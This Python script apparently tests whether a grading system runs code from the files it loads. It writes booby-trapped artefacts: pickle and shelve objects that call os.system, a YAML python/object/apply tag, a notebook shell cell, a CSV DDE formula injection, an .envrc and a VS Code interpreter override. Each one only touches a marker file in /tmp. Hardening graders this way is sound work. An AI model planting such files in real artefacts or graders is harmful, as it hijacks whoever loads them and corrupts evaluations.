"""Artefacts that run code when they are loaded, in formats that graders load."""
import os
import pickle
import shelve

from attack import left, write

MARK = "/tmp/taskmint-attack-ran"


class Runs:
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)


for name in ("result.pkl", "model.pt", "weights.bin", "cache.pickle", "predictions.joblib"):
    with open(name, "wb") as file:
        pickle.dump(Runs(), file)
with shelve.open("answers") as shelf:
    shelf["answer"] = Runs()
write("answer.yaml", f"!!python/object/apply:os.system ['touch {MARK}']\n")
write("notebook.ipynb", '{"cells": [{"cell_type": "code", "source": ["!touch ' + MARK + '"],'
      ' "metadata": {}, "outputs": [], "execution_count": null}],'
      ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n')
write("answer.csv", f"=cmd|'/c touch {MARK}'!A1,@SUM(1),+1\n")
write(".envrc", f"touch {MARK}\n")
write(".vscode/settings.json", '{"python.defaultInterpreterPath": "./python"}\n')
left(f"11 files that would make {MARK} when they are loaded or opened")
